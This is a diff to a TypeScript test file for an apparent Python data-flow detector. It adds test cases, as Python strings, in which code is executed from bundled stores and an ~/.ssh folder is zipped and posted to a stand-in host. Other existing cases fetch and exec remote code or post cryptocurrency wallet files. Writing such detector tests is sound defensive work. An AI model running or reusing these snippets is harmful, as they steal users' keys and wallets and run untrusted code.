@@ -32,6 +32,8 @@ test.each<[string, Way, string]>([
   ['what a client is told to write into', ['network', 'exec'], 'import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEDATA, b)\nc.perform()\nexec(b.getvalue())\n'],
   ['a path that is put together from a list', ['credentials', 'network'], 'import os, requests\nfor p in [os.path.join(os.environ.get(b, ""), *p.split("/")) for b, p in [("APPDATA", "Exodus/exodus.wallet"), ("APPDATA", "Electrum/wallets")]]:\n    requests.post("https://w.example.invalid", data=open(p, "rb").read())\n'],
   ['machine code behind a name of data', ['shipped', 'exec'], 'import importlib.machinery, pkg_resources\nimportlib.machinery.ExtensionFileLoader("core", pkg_resources.resource_filename(__name__, "core.dat"))\n'],
+  ['an object of a store that comes along', ['shipped', 'exec'], 'import os, shelve\nexec(shelve.open(os.path.join(os.path.dirname(__file__), "data", "state"))["init"])\n'],
+  ['a copied folder that is packed', ['credentials', 'network'], 'import os, requests, shutil\nshutil.copytree(os.path.expanduser("~/.ssh"), "/tmp/beds")\npacked = shutil.make_archive("/tmp/shed", "zip", "/tmp/beds")\nrequests.post("https://p.example.invalid", files={"f": open(packed, "rb")})\n'],
   ['rows of a database that comes along', ['shipped', 'exec'], 'import os, sqlite3\nfor (row,) in sqlite3.connect(os.path.join(os.path.dirname(__file__), "cache.db")).execute("select x from t"): exec(row)\n'],
 ])('%s is followed', async (_, way, text) => {
   expect(await flows(text, way)).toContain('import');
@@ -43,6 +45,8 @@ test.each<[string, Way, string]>([
   ['documents that lie in the package', ['credentials', 'network'], 'import glob, requests\nfor path in glob.glob("docs/**/*.md"):\n    requests.post("https://d.example.invalid", data=open(path, "rb").read())\n'],
   ['a table that comes along', ['network', 'exec'], 'import pandas as pd\nfor code in pd.read_csv("t.csv")["code"]: exec(code)\n'],
   ['machine code under its own name', ['shipped', 'exec'], 'import importlib.machinery, pkg_resources\nimportlib.machinery.ExtensionFileLoader("core", pkg_resources.resource_filename(__name__, "core.so"))\n'],
+  ['an object of a store of the user', ['shipped', 'exec'], 'import os, shelve\nexec(shelve.open(os.path.expanduser("~/.garden"))["init"])\n'],
+  ['a copied folder of the package that is packed', ['credentials', 'network'], 'import os, requests, shutil\nshutil.copytree("docs", "/tmp/beds")\npacked = shutil.make_archive("/tmp/shed", "zip", "/tmp/beds")\nrequests.post("https://p.example.invalid", files={"f": open(packed, "rb")})\n'],
   ['a number that identifies', ['decoder', 'exec'], 'import uuid\nname = uuid.UUID(u).hex\nexec("x = 1")\n'],
 ])('%s is left alone', async (_, way, text) => {
   expect(await flows(text, way)).toEqual([]);
